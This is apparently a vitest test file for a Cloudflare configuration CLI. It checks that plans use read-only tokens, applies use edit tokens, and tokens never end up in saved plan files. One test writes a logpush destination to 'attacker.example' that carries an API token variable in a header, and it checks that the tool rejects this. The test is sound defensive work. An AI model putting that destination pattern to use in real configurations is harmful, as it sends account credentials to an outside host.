// docs/ci.md's token split end to end: the pull request plans with read tokens, the merge applies the saved
// plan with edit tokens under the same variable names. A token is who applies, not what is applied: it is
// never bound into the plan, and a read token is refused every write (the emulator's `read_only`).
import { describe, expect, it } from "vitest";
import { TestEmulator, ZONE, runCli, tempDir, writeConfig, type LoggedRequest } from "../helpers/cli.js";
import { join } from "node:path";
import { readFile } from "node:fs/promises";

const emu = TestEmulator.perFile();

const SECRET = { LOG_AUTH: "log-secret-4f9a2c" };
const A = "0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a";
const B = "0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b0b";

const job = (name: string) =>
  `        - name: ${name}\n          dataset: http_requests\n` +
  `          destination_conf: "https://logs.example.com/${name}?header_Authorization=\${env:LOG_AUTH}"\n`;

/** Read and edit tokens, as the dashboard makes them: the read one may not write. */
async function tokens(names: Record<string, { account_id?: string; read_only?: boolean }>): Promise<void> {
  for (const [token, details] of Object.entries(names))
    await emu.admin("PUT", "tokens", { token, name: token, ...details });
}

const writers = (log: readonly LoggedRequest[]) =>
  log.filter((r) => r.method !== "GET").map((r) => `${r.credential} ${r.method}`);

async function planThenApply(config: string, readEnv: Record<string, string>, editEnv: Record<string, string>) {
  const dir = await tempDir();
  const planFile = join(dir, "plan.json");
  await emu.clearRequests();
  const planned = await runCli(emu, ["plan", "-c", config, "--out", planFile, "--detailed-exitcode"], {
    env: { ...readEnv, ...SECRET },
  });
  expect(planned.code, planned.stderr).toBe(2);
  const planLog = await emu.requests();
  const text = await readFile(planFile, "utf8");
  for (const value of [...Object.values(readEnv), ...Object.values(SECRET)].filter(Boolean))
    expect(text).not.toContain(value);
  await emu.clearRequests();
  const applied = await runCli(emu, ["apply", planFile], { env: { ...editEnv, ...SECRET } });
  expect(applied.code, applied.stderr).toBe(0);
  const applyLog = await emu.requests();
  const again = await runCli(emu, ["plan", "-c", config, "--detailed-exitcode"], { env: { ...readEnv, ...SECRET } });
  expect(again.code, again.stdout + again.stderr).toBe(0);
  return { text, planLog, applyLog };
}

describe("plan with read tokens, apply the saved plan with edit tokens", () => {
  it("works with one token (CLOUDFLARE_API_TOKEN): the plan binds no token and sends nothing but reads", async () => {
    await tokens({ "read-token": { read_only: true }, "edit-token": {} });
    const config = await writeConfig(
      `version: 1\nzones:\n  - zone_id: ${ZONE.com}\n    name: example.com\n    logs:\n      logpush_jobs:\n${job("http")}`,
    );
    const { text, planLog, applyLog } = await planThenApply(
      config,
      { CLOUDFLARE_API_TOKEN: "read-token" },
      { CLOUDFLARE_API_TOKEN: "edit-token" },
    );
    expect(JSON.parse(text).inputs.names).toEqual(["LOG_AUTH"]);
    expect(planLog.every((r) => r.method === "GET" && r.credential === "read-token")).toBe(true);
    // The destination holds a secret: Cloudflare checks it at apply, with the edit token, then the write.
    expect(writers(applyLog)).toEqual(["edit-token POST", "edit-token POST"]);
    const post = applyLog.find((r) => r.method === "POST" && r.path.endsWith("/logpush/jobs"))!;
    expect((post.body as Record<string, string>).destination_conf).toContain(SECRET.LOG_AUTH);
  });

  it("works with one token per account: each variable holds the read token, then the edit token", async () => {
    const seeded: Record<string, { zones: Array<{ id: string; name: string }> }> = {};
    for (const [id, key] of [
      [A, "a"],
      [B, "b"],
    ] as const) {
      seeded[key] = await emu.admin("POST", "accounts", {
        account_id: id,
        token: `edit-${key}`,
        token_name: `edit-${key}`,
        zones: 1,
        domain: `${key}.test`,
      });
    }
    await tokens({
      "read-a": { account_id: A, read_only: true },
      "read-b": { account_id: B, read_only: true },
    });
    const zone = (z: { id: string; name: string }, account: string, name: string) =>
      `  - zone_id: ${z.id}\n    name: ${z.name}\n    account_id: ${account}\n    logs:\n      logpush_jobs:\n${job(name)}`;
    const config = await writeConfig(
      `version: 1\naccounts:\n  - account_id: ${A}\n    api_token: \${env:TOKEN_A}\n  - account_id: ${B}\n` +
        `    api_token: \${env:TOKEN_B}\nzones:\n${zone(seeded.a!.zones[0]!, A, "a")}${zone(seeded.b!.zones[0]!, B, "b")}`,
    );
    const { text, planLog, applyLog } = await planThenApply(
      config,
      { CLOUDFLARE_API_TOKEN: "", TOKEN_A: "read-a", TOKEN_B: "read-b" },
      { CLOUDFLARE_API_TOKEN: "", TOKEN_A: "edit-a", TOKEN_B: "edit-b" },
    );
    // The token variables are who applies: never bound, only named where the file names them.
    expect(JSON.parse(text).inputs.names).toEqual(["LOG_AUTH"]);
    expect(text).toContain("${env:TOKEN_A}");
    expect(new Set(planLog.map((r) => r.credential))).toEqual(new Set(["read-a", "read-b"]));
    expect(planLog.every((r) => r.method === "GET")).toBe(true);
    expect(writers(applyLog).sort()).toEqual(["edit-a POST", "edit-a POST", "edit-b POST", "edit-b POST"]);
  });

  it("refuses an apply with the read token, naming the permission, with nothing written", async () => {
    await tokens({ "read-token": { read_only: true } });
    const config = await writeConfig(
      `version: 1\nzones:\n  - zone_id: ${ZONE.com}\n    name: example.com\n    page_shield:\n      enabled: true\n`,
    );
    const applied = await runCli(emu, ["apply", "-c", config, "--auto-approve"], {
      env: { CLOUDFLARE_API_TOKEN: "read-token" },
    });
    expect(applied.code).not.toBe(0);
    expect(emu.state().zones.find((z) => z.id === ZONE.com)!.page_shield.enabled).not.toBe(true);
  });

  it("refuses a token variable anywhere else in the file, at its line", async () => {
    const config = await writeConfig(
      `version: 1\naccounts:\n  - account_id: ${A}\n    api_token: \${env:TOKEN_A}\nzones:\n  - zone_id: ${ZONE.com}\n` +
        `    name: example.com\n    logs:\n      logpush_jobs:\n        - name: x\n          dataset: http_requests\n` +
        `          destination_conf: "https://attacker.example/?header_X=\${env:TOKEN_A}"\n`,
    );
    for (const command of ["validate", "plan"]) {
      const r = await runCli(emu, [command, "-c", config], { env: { TOKEN_A: "edit-a" } });
      expect(r.code).toBe(3);
      expect(r.stderr).toContain("zoneform.yaml:12:29");
      expect(r.stderr).toContain("${env:TOKEN_A} holds an API token");
    }
    expect(await emu.calls()).toEqual([]);
  });
});
